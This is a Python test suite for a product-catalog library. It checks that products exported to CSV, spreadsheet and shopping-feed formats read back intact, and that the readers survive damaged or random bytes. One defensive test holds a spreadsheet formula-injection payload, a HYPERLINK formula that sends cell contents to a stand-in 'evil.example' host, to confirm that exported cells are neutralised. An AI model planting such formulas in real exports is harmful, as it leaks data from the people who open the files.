"""Every format: what is written is read again, as far as the format can say it."""

import io
from collections.abc import Callable, Mapping
from contextlib import suppress
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from catalog import OptionGroup, OptionValue, Pack, Product, ProductType, Variant
from catalog.domain.notation import option_id
from catalog.formats.hypertext import from_html, to_html
from catalog.formats.registry import FORMATS
from catalog.formats.rows import BadFeed, Told
from catalog.formats.writing import attributes_of, price_of
from tests.factories import a_product, a_shirt
from tests.feeds import read
from tests.taking import taken

WHOLE = ("csv", "tsv", "jsonl", "xlsx")
#: Letters that formats use for themselves among some that they do not.
_LETTERS = "aZ09 ışéЖ中=+-@'\"\\|;:,/*().<>&#_{}[]\t\n%x"
_text = (
    st.text(_LETTERS, min_size=1, max_size=9)
    .map(lambda text: " ".join(text.split(" ")).strip())
    .filter(bool)
)
_name = _text.filter(lambda text: any(letter.isalnum() for letter in text))
_maybe = st.none() | _text
_number = st.decimals(0, 99_999, places=3)
_above = st.decimals(Decimal("0.01"), 9_999, places=2)
_gtin = st.none() | st.sampled_from(["40063813", "04006381333931"])


@st.composite
def _option_groups(draw: st.DrawFn) -> tuple[OptionGroup, ...]:
    names = draw(st.lists(_name, max_size=2, unique_by=option_id))
    groups = []
    for name in names:
        options = draw(st.lists(_name, min_size=1, max_size=3, unique_by=option_id))
        values = tuple(
            OptionValue(
                option_id(each),
                each,
                draw(_above),
                tuple(draw(st.lists(_text, max_size=2))),
            )
            for each in options
        )
        default = draw(st.none() | st.sampled_from([each.id for each in values]))
        least = draw(st.integers(0, 1))
        groups.append(
            OptionGroup(option_id(name), name, values, least, len(values), default)
        )
    return tuple(groups)


@st.composite
def _products(draw: st.DrawFn) -> list[Product]:
    skus = iter(draw(st.lists(_text, min_size=1, max_size=6, unique=True)))
    products = []
    for sku in skus:
        forms = []
        if draw(st.booleans()):
            for place, form_sku in enumerate(
                [s for s, _ in zip(skus, "ab", strict=False)]
            ):
                attributes = draw(
                    st.dictionaries(
                        st.sampled_from(["colour", "size", "cut", "a,b:c"]),
                        _text,
                        min_size=1,
                        max_size=3,
                    )
                )
                forms.append(
                    Variant(
                        id=f"variant_{form_sku}",
                        sku=form_sku,
                        name=draw(_text),
                        attributes=attributes,
                        price=draw(st.none() | _above) if place else None,
                        stock=draw(st.none() | _number),
                        gtin=draw(_gtin),
                        external_id=draw(_maybe),
                        image=draw(_maybe),
                    )
                )
        step = draw(st.sampled_from([Decimal(1), Decimal("0.1")]))
        products.append(
            a_product(
                id=f"product_{sku}",
                sku=sku,
                name=draw(_text),
                price=draw(st.none() | _above),
                description=draw(st.just("") | _text),
                url=draw(_maybe),
                active=draw(st.booleans()),
                type=draw(st.sampled_from(ProductType)),
                step=step,
                minimum=2 * step,
                default_quantity=4 * step,
                packs=draw(
                    st.lists(
                        st.builds(Pack, _text, _above),
                        max_size=2,
                        unique_by=lambda p: p.unit,
                    ).map(tuple)
                ),
                list_price=draw(st.none() | _above),
                tax_rate=draw(st.decimals(0, 100, places=1)),
                stock=draw(st.none() | _number),
                weight_kg=draw(st.none() | _number),
                length_cm=draw(st.none() | _number),
                reference=draw(_maybe),
                gtin=draw(_gtin),
                brand=draw(_maybe),
                colour=draw(_maybe),
                material=draw(_maybe),
                category=draw(_maybe),
                image=draw(_maybe),
                attributes=draw(st.dictionaries(_text, _text, max_size=2)),
                variants=tuple(forms),
                option_groups=draw(_option_groups()),
                aliases=tuple(draw(st.lists(_text, max_size=2, unique=True))),
            )
        )
    return products


def written(products: list[Product], format_: str, folder: Path) -> Path:
    writer = FORMATS[format_].writer()
    path = folder / f"out{FORMATS[format_].suffix}"
    path.write_bytes(writer.head() + writer.write(products) + writer.tail())
    return path


def whole(product: Product) -> Product:
    """Return a product as every field of it can be told."""
    forms = (replace(form, id="") for form in product.variants)
    return replace(product, id="", variants=tuple(forms))


def _plain(product: Product) -> Product:
    """Return what shopping feeds and Shopify all have fields for."""
    return Product(
        id="",
        sku=product.sku,
        name=product.name,
        price=product.price,
        currency=product.currency,
        description=product.description,
        category=product.category,
        brand=product.brand,
        image=product.image,
        weight_kg=product.weight_kg,
        gtin=None if product.variants else product.gtin,
        variants=tuple(_form(product, form) for form in product.variants),
    )


def _form(product: Product, form: Variant) -> Variant:
    attributes = attributes_of(form)
    return Variant(
        id="",
        sku=form.sku,
        name=", ".join(attributes.values()),
        attributes=attributes,
        price=price_of(product, form),
        stock=form.stock,
        gtin=form.gtin,
        image=form.image or product.image,
    )


def _only_whether(stock: Decimal | None) -> Decimal | None:
    return Decimal(0) if stock == 0 else None


def _only_whole(stock: Decimal | None) -> Decimal | None:
    if stock is None or stock == 0:
        return stock
    return Decimal(int(stock)) if stock >= 1 else None


def _shopping(
    product: Product, stock: Callable[[Decimal | None], Decimal | None]
) -> Product:
    """Return what both shopping feeds can say; a group is as its first item."""
    price, before = product.price, product.list_price
    is_reduced = before is not None and price is not None and before > price
    found = replace(
        _plain(product),
        url=product.url,
        reference=product.reference,
        list_price=before if is_reduced else None,
        stock=None if product.variants else stock(product.stock),
    )
    forms = tuple(replace(form, stock=stock(form.stock)) for form in found.variants)
    if not forms:
        return replace(found, colour=product.colour, material=product.material)
    return replace(found, variants=forms, image=forms[0].image)


def google(product: Product) -> Product:
    return replace(_shopping(product, _only_whether), length_cm=product.length_cm)


def meta(product: Product) -> Product:
    found = replace(_shopping(product, _only_whole), active=product.active)
    marks = str.maketrans(",:", "  ")
    forms = []
    for form in found.variants:
        attributes = {
            (key if key in ("colour", "size") else key.translate(marks)): (
                value if key in ("colour", "size") else value.translate(marks).strip()
            )
            for key, value in form.attributes.items()
        }
        attributes = {key: value for key, value in attributes.items() if value}
        attributes = attributes or {"variant": product.name}
        forms.append(
            replace(form, attributes=attributes, name=", ".join(attributes.values()))
        )
    return replace(found, variants=tuple(forms))


def shopify(product: Product) -> Product:
    found = replace(
        _plain(product),
        description=from_html(to_html(product.description)),
        list_price=product.list_price,
        active=product.active,
        stock=None if product.variants else product.stock,
    )
    keys = list(dict.fromkeys(key for v in found.variants for key in v.attributes))
    forms = tuple(
        replace(each, image=form.image, attributes=_three(each.attributes, keys))
        for each, form in zip(found.variants, product.variants, strict=True)
    )
    return replace(found, variants=forms)


def _three(attributes: Mapping[str, str], keys: list[str]) -> dict[str, str]:
    """Return attributes of which no more than three have names of their own."""
    if len(keys) <= 3:
        return dict(attributes)
    last = [value for key, value in attributes.items() if key not in keys[:2]]
    own = {key: value for key, value in attributes.items() if key in keys[:2]}
    return own | ({" / ".join(keys[2:]): " / ".join(last)} if last else {})


CARRIED: dict[str, Callable[[Product], Product]] = {
    **dict.fromkeys(WHOLE, whole),
    "google": google,
    "meta": meta,
    "shopify": shopify,
}


def is_carried(product: Product, format_: str) -> bool:
    if format_ in WHOLE:
        return True
    return product.price is not None and (product.active or format_ != "google")


def sortable(product: Product) -> Product:
    """Return a product whose attributes are compared in no order."""
    forms = (
        replace(form, attributes=dict(sorted(form.attributes.items())), name="")
        for form in product.variants
    )
    return replace(product, variants=tuple(forms))


AWKWARD = [
    a_product(id="p1", name="'=1+1", description="a\n\nb", aliases=("x|y", "=2")),
    a_product(id="p0", sku="'0", gtin="40063813"),
    a_product(id="p2", sku="-B", price=Decimal("1.250"), stock=Decimal("0.5")),
    a_shirt(id="p3", variants=(Variant("v", "S", "red", {"colour": "red"}),)),
]


@pytest.mark.parametrize("format_", FORMATS)
@example(AWKWARD)
@given(_products())
@settings(
    max_examples=15,
    deadline=None,
    derandomize=True,  # the machine may be busy
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
def test_what_is_exported_is_imported_as_far_as_the_format_can_say_it(
    tmp_path: Path, format_: str, products: list[Product]
) -> None:
    path = written(products, format_, tmp_path)
    carried = [each for each in products if is_carried(each, format_)]
    if format_ not in WHOLE:
        carried = [CARRIED[format_](each) for each in carried]
        found = [sortable(each) for each in read(path)]
        assert found == [sortable(each) for each in carried]
        return
    assert read(path) == [whole(each) for each in carried]


@pytest.mark.parametrize("format_", FORMATS)
def test_a_file_is_recognised_by_what_is_in_it(tmp_path: Path, format_: str) -> None:
    path = written(AWKWARD, format_, tmp_path)
    found = taken(path.rename(tmp_path / "no suffix"))
    assert (found.format, found.errors, found.warnings) == (format_, [], [])


@pytest.mark.parametrize("format_", ["csv", "tsv", "meta", "shopify"])
def test_no_cell_of_a_table_is_a_formula_that_runs(
    tmp_path: Path, format_: str
) -> None:
    evil = '=HYPERLINK("http://evil.example?"&A1)'
    products = [
        a_product(sku=evil, name=f"{mark}1", brand=evil, category="'" + evil)
        for mark in "=+-@\uff1d"
    ]
    text = written(products, format_, tmp_path).read_text()
    separator = "\t" if format_ == "tsv" else ","
    for cell in text.replace("\r\n", separator).replace('"', "").split(separator):
        assert not cell.startswith(tuple("=+-@\uff1d"))


def test_what_a_format_cannot_carry_is_counted(tmp_path: Path) -> None:
    products = [a_product(price=None), a_product(active=False), a_product()]
    counts = {}
    for name, known in FORMATS.items():
        writer = known.writer()
        writer.write(products) if name != "xlsx" else None
        counts[name] = writer.left_out
    assert counts == {
        **dict.fromkeys(WHOLE, 0),
        "google": 2,
        "meta": 1,
        "shopify": 1,
    }


def test_a_format_that_nobody_knows_is_refused_with_those_that_are(
    tmp_path: Path,
) -> None:
    path = written(AWKWARD, "csv", tmp_path)
    known = "csv, tsv, jsonl, xlsx, google, meta, shopify"
    with pytest.raises(BadFeed, match=f"no format 'xml': write one of {known}"):
        taken(path, told=Told(format="xml"))
    assert taken(path, told=Told(format="google")).errors == [
        "line 1, id: the column is missing: add it",
        "line 1, title: the column is missing: add it",
    ]


@pytest.mark.parametrize("format_", FORMATS)
@given(st.data())
@settings(
    max_examples=20,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_no_damage_breaks_the_reader(
    tmp_path: Path, format_: str, data: st.DataObject
) -> None:
    content = bytearray(written(AWKWARD, format_, tmp_path).read_bytes())
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(content)))
        length = data.draw(st.integers(0, 30))
        content[at : at + length] = data.draw(st.binary(max_size=20))
    path = tmp_path / "damaged"
    path.write_bytes(content)
    told = data.draw(st.sampled_from([Told(), Told(format=format_)]))
    with suppress(BadFeed):
        taken(path, told=told)


@pytest.mark.parametrize(
    "start", [b"", b"<rss><item>", b"{", b"PK\x03\x04", b"handle,title\n"]
)
@given(st.binary(max_size=200))
@settings(
    max_examples=20,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
def test_no_bytes_break_the_reader(
    tmp_path: Path, start: bytes, content: bytes
) -> None:
    path = tmp_path / "fuzz"
    path.write_bytes(start + content)
    with suppress(BadFeed):
        taken(path)


def test_a_spreadsheet_is_written_the_same_each_time() -> None:
    files = set()
    for _ in range(2):
        writer = FORMATS["xlsx"].writer()
        out = io.BytesIO()
        out.write(writer.head())
        out.write(writer.write(AWKWARD))
        out.write(writer.tail())
        files.add(out.getvalue())
    assert len(files) == 1
